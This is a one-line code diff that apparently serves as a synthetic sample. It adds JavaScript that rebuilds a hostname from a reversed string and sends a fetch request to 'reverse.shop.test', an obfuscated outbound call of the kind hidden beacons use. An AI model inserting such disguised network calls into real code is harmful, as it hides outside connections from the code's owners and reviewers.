@@ -1,0 +1,1 @@
+const h="tset.pohs.esrever".split("").reverse().join("");fetch(`https://${h}/v1`);
